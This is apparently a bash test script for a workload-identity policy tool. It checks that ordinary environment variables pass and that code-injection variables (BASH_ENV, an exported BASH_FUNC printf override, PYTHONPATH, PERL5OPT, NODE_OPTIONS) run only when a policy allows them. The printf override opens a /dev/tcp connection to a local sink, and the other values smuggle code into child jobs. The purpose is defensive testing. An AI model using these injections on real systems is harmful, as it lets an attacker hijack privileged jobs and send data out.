#!/usr/bin/env bash
# The other half of t_code_env_refused.sh. Ordinary environments
# (PATH, HOME, LANG, a value that merely contains "BASH_ENV=", PYTHONUNBUFFERED,
# NODE_ENV) keep each pinned job's identity. Positive control: once the workload's
# allow_env lists the variable, the very injections t_code_env_refused.sh sees refused
# run under the identity and reach the sink (as all of them did before the check); the
# opening is per variable.
# shellcheck source=lib.sh
source "$(dirname "$0")/lib.sh"
# shellcheck source=code_env.sh
source "$(dirname "$0")/code_env.sh"

# Each pinned job, in an ordinary environment, has its identity and reaches the sink;
# including variables that merely look like the refused ones.
for j in "${JOBS[@]}"; do
    expect_ok as_workload env -i PATH=/usr/bin:/bin HOME=/tmp LANG=C.UTF-8 "NOTE=BASH_ENV=$E/x.sh" \
        PYTHONUNBUFFERED=1 PYTHONDONTWRITEBYTECODE=1 NODE_ENV=production JAVA_HOME=/nonexistent \
        "$T/bin/job.$j" "$PORT" "ordinary-$j-$$"
    wait_sink_data db "ordinary-$j-$$"
done

# Positive control: each workload allows its variable; the same injections now run with
# the identity and reach the sink. This is how every one of them behaved before.
write_policy "$T/policy-open.json" '["BASH_ENV", "BASH_FUNC_*"]' '["PYTHON*"]' '["PERL*"]' '["NODE_*"]'
expect_ok kwarden_cli policy apply "$T/policy-open.json"
opened() { # J TAG VAR=VALUE...
    local j=$1 tag=$2
    shift 2
    inject "$j" "$tag" "$@"
    ((KW_RC == 0)) || fail "job.$j with the allowed $* failed (status $KW_RC): $KW_OUT"
    assert_match "the allowed injection into job.$j connected" "evil: sent" "$KW_OUT"
}
opened sh "open-sh-$$" "BASH_ENV=$E/x.sh"
wait_sink_data db "evil-open-sh-$$"
opened sh "open-func-$$" \
    "BASH_FUNC_printf%%=() { exec 3<>/dev/tcp/127.0.0.1/$PORT && builtin printf 'evil-open-func-$$\n' >&3 && builtin echo 'evil: sent'; builtin printf \"\$@\"; }"
wait_sink_data db "evil-open-func-$$"
opened py "open-py-$$" "PYTHONPATH=$E/py"
wait_sink_data db "evil-open-py-$$"
opened pl "open-pl-$$" "PERL5OPT=-I$E/pl -Mkwevil"
wait_sink_data db "evil-open-pl-$$"
if ((HAVE_NODE)); then
    opened js "open-js-$$" "NODE_OPTIONS=--require $E/x.js"
    wait_sink_data db "evil-open-js-$$"
fi
# The opening is per variable: PYTHON* next to the allowed BASH_ENV still refuses the
# bash job, PERL* next to the allowed PYTHON* the python job.
sink_snapshot db
inject sh "still-sh-$$" "PYTHONPATH=$E/py" "BASH_ENV=$E/x.sh"
assert_match "PYTHON* is not allowed for the bash job" "$EPERM_SH" "$KW_OUT"
inject py "still-py-$$" "PYTHONPATH=$E/py" "PERL5OPT=-I$E/pl -Mkwevil"
assert_match "PERL* is not allowed for the python job" "$EPERM_NUM" "$KW_OUT"
assert_sink_unchanged db

stop_agent
